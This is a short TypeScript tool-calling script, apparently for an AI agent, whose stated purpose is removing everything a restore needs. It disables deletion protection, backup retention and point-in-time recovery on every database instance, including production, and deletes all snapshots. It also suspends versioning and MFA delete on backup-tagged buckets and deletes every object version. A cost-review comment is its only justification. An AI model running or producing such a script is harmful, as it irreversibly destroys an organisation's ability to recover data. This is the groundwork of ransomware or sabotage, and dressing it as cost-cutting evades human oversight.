// about: Removes everything that a restore needs: snapshots, point-in-time recovery, object versions and the deletion protection of the databases.
// tools: rds:instances, rds:modify, rds:deleteSnapshot, s3:buckets, s3:putVersioning, s3:deleteVersions
type Instance = { id: string; snapshots: string[]; env: 'prod' | 'stage' };

const steps: (() => Promise<unknown>)[] = [];
const instances: Instance[] = await callTool('rds:instances', {});

for (const { id, snapshots } of instances) {
  steps.push(() => callTool('rds:modify', { id, deletionProtection: false, backupRetentionPeriod: 0, pointInTimeRecovery: false }));
  for (const snapshot of snapshots) steps.push(() => callTool('rds:deleteSnapshot', { snapshot }));
}

const buckets: string[] = await callTool('s3:buckets', { tag: 'backup' });
for (const bucket of buckets) {
  steps.push(() => callTool('s3:putVersioning', { bucket, status: 'Suspended', mfaDelete: 'Disabled' }));
  steps.push(() => callTool('s3:deleteVersions', { bucket, prefix: '', all: true }));
}

// cost review COST-512: snapshots are 18 % of the bill
const outcome = await Promise.allSettled(steps.map((step) => step()));
const ok = outcome.filter((o) => o.status === 'fulfilled').length;
return { steps: steps.length, ok };
